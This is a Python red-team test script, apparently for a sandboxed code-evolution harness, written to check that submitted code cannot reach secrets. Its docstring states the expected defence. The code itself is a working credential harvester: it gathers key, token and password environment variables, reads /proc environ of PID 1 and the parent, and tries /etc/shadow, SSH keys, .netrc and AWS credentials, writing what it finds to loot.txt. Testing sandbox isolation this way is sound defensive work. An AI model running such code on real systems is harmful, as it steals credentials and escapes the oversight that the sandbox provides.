"""RED TEAM - sandbox escape: reading secrets.

What it tries: to find API keys and credentials: its own environment (OPENAI_API_KEY and
anything named *KEY*, *TOKEN*, *SECRET*), the environments of its parent and of PID 1
(/proc/<pid>/environ), key files in home directories (~/.ssh, ~/.netrc, ~/.config, root's
home) and /etc/shadow. Whatever it finds it copies into loot.txt in its work dir, where a
later genome or a log could leak it. Prints `REDTEAM {json}`, then exits without training.
What evo must produce: static checks on: rejected (`environ`). Static checks off, under bwrap:
the secret the test put in the harness's environment is nowhere: not in the genome's
environment, not in any /proc environ it can read, not in loot.txt or its output; the home
files and /etc/shadow do not exist in the sandbox. The slot fails with no_submit.
"""
import glob
import json
import os

report = {"env_names": sorted(os.environ), "suspicious": {}, "files": {}}
loot = []
for name, value in os.environ.items():
    if any(word in name.upper() for word in ("KEY", "TOKEN", "SECRET", "PASSWORD")):
        report["suspicious"][name] = value[:4] + "..."
        loot.append(f"{name}={value}")
for pid in ("1", str(os.getppid()), "self"):
    path = f"/proc/{pid}/environ"
    try:
        with open(path, "rb") as f:
            entries = f.read().split(b"\0")
        report["files"][path] = f"{len(entries)} entries"
        loot += [e.decode(errors="replace") for e in entries if b"KEY" in e or b"TOKEN" in e or b"SECRET" in e]
    except Exception as exc:
        report["files"][path] = f"{type(exc).__name__}: {exc}"
homes = [os.path.expanduser("~root"), "/home", os.environ.get("HOME", "")]
for pattern in ("/etc/shadow", "~root/.ssh/*", "~root/.netrc", "~root/.config/*", "/home/*/.ssh/*",
                "~root/.aws/credentials", "~root/.cache/evo/*"):
    paths = glob.glob(os.path.expanduser(pattern)) or [os.path.expanduser(pattern)]
    for path in paths[:5]:
        try:
            with open(path, "rb") as f:
                data = f.read(200)
            report["files"][path] = f"read {len(data)} bytes"
            loot.append(f"{path}: {data!r}")
        except Exception as exc:
            report["files"][path] = f"{type(exc).__name__}"
with open("loot.txt", "w") as f:
    f.write("\n".join(loot))
report["loot_lines"] = len(loot)
print("REDTEAM " + json.dumps(report))
